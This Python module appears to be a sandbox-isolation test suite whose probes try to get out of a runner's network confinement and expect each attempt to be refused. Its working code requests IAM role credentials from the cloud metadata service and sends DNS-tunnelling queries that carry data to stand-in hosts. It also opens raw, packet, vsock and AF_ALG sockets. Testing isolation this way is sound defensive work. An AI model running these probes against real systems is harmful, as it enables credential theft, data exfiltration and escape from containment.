"""Ways out through the network that do not ask the runner's proxy."""

import fcntl
import socket
import struct
import urllib.request

from probe import ROOT, Refused, any_of, probe

NETWORK = "network namespace"
SECONDS = 10


def fetch(url, headers=()):
    """Fetches `url` without any proxy."""
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(urllib.request.Request(url, headers=dict(headers)), timeout=SECONDS) as response:
            return response.read(200).decode().strip()
    except urllib.error.URLError as error:
        # The reason is the error of the socket, which has the number.
        raise error.reason if isinstance(error.reason, OSError) else error from None


def converse(family, kind, address, words=b"who are you\n"):
    with socket.socket(family, kind) as connection:
        connection.settimeout(SECONDS)
        connection.connect(address)
        connection.send(words)
        return connection.recv(200).decode().strip()


@probe(NETWORK, "ENETUNREACH", "ECONNREFUSED")
def metadata_v4(facts):
    """asks the machine's metadata service for the credentials of the runner's role"""
    return fetch(f"http://{facts['metadata_v4']}/latest/meta-data/iam/security-credentials/")


@probe(NETWORK, "ENETUNREACH", "EADDRNOTAVAIL")
def metadata_v6(facts):
    """asks the metadata service at its IPv6 address"""
    return fetch(f"http://[{facts['metadata_v6']}]/latest/meta-data/iam/security-credentials/")


@probe(NETWORK, "ECONNREFUSED")
def host_loopback(facts):
    """connects to a service that listens on 127.0.0.1 of the machine"""
    return converse(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", facts["loopback_port"]))


@probe(NETWORK, "ECONNREFUSED", "EADDRNOTAVAIL")
def host_loopback_v6(facts):
    """connects to a service that listens on ::1 of the machine"""
    return converse(socket.AF_INET6, socket.SOCK_STREAM, ("::1", facts["loopback_port"]))


@probe(NETWORK, "ENETUNREACH")
def host_own_address(facts):
    """connects to a service of the machine by the machine's address in its network"""
    return converse(socket.AF_INET, socket.SOCK_STREAM, (facts["machine_v4"], facts["loopback_port"]))


@probe(NETWORK, "ENETUNREACH")
def egress_tcp(facts):
    """connects to a host on the internet past the proxy"""
    return fetch(f"http://{facts['internet_v4']}/")


@probe(NETWORK, "ENETUNREACH", "EADDRNOTAVAIL")
def egress_ipv6(facts):
    """connects to a host on the internet over IPv6"""
    return fetch(f"http://[{facts['internet_v6']}]/")


@probe(NETWORK, "ENETUNREACH")
def egress_udp(facts):
    """exchanges datagrams with a host on the internet, as QUIC would"""
    return converse(socket.AF_INET, socket.SOCK_DGRAM, (facts["internet_v4"], facts["udp_port"]))


@probe(NETWORK, "ENETUNREACH", "ECONNREFUSED")
def dns_tunnel(facts):
    """asks the machine's name server for a name that carries data"""
    query = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
    query += b"".join(bytes([len(part)]) + part for part in (b"stolen-by-udp", b"tunnel", b"example")) + b"\0"
    query += struct.pack(">HH", 16, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(SECONDS)
        connection.connect((facts["name_server"], 53))
        connection.send(query)
        return f"{len(connection.recv(512))} bytes of answer"


@probe(NETWORK, "EAI_AGAIN", "EAI_NONAME")
def dns_tunnel_by_resolver(facts):
    """resolves a name that carries data by the C library, as any program does"""
    try:
        return socket.getaddrinfo("stolen-by-resolver.tunnel.example", 80)[0][4][0]
    except socket.gaierror as error:
        codes = {socket.EAI_AGAIN: "EAI_AGAIN", socket.EAI_NONAME: "EAI_NONAME"}
        raise Refused(codes.get(error.errno, str(error))) from None


@probe("no capability", "EPERM", reached_by=ROOT)
def raw_socket(facts):
    """opens a raw IP socket, by which packets are forged"""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
        return "a raw socket"


@probe("no capability, seccomp filter", "EPERM", "EAFNOSUPPORT", reached_by=ROOT)
def packet_socket(facts):
    """opens a packet socket, by which the traffic of others is read"""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)):
        return "a packet socket"


@probe("no capability", "EPERM", reached_by=ROOT)
def network_interface(facts):
    """brings the loopback interface up, as one does before adding routes"""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        request = struct.pack("16sh14x", b"lo", 0)
        flags = struct.unpack("16sh14x", fcntl.ioctl(control, 0x8913, request))[1]
        fcntl.ioctl(control, 0x8914, struct.pack("16sh14x", b"lo", flags | 1))
        return "SIOCSIFFLAGS"


@probe(NETWORK, "ECONNREFUSED")
def abstract_socket(facts):
    """connects to an abstract Unix socket of the machine, which no file protects"""
    return converse(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + facts["abstract_socket"])


@probe("mount namespace", "ENOENT")
def dbus(facts):
    """connects to the system bus of the machine"""
    return converse(socket.AF_UNIX, socket.SOCK_STREAM, facts["bus"])


@probe("mount namespace, network namespace", "ENOENT", "ECONNREFUSED")
def descriptor_from_outside(facts):
    """asks a service outside to send it an open directory over a Unix socket (SCM_RIGHTS)"""

    def ask(address):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            connection.settimeout(SECONDS)
            connection.connect(address)
            _, descriptors, _, _ = socket.recv_fds(connection, 100, 1)
            return f"descriptor {descriptors[0]}"

    return any_of(lambda: ask(facts["giver"]), lambda: ask("\0" + facts["giver"]))


@probe("seccomp filter", "EAFNOSUPPORT", "EPERM")
def vsock(facts):
    """opens a socket to the hypervisor, which no network namespace holds back"""
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM):
        return "AF_VSOCK"


@probe("seccomp filter", "EAFNOSUPPORT", "EPERM")
def kernel_ciphers(facts):
    """opens a socket to the kernel's ciphers (AF_ALG), which have had holes"""
    with socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET):
        return "AF_ALG"
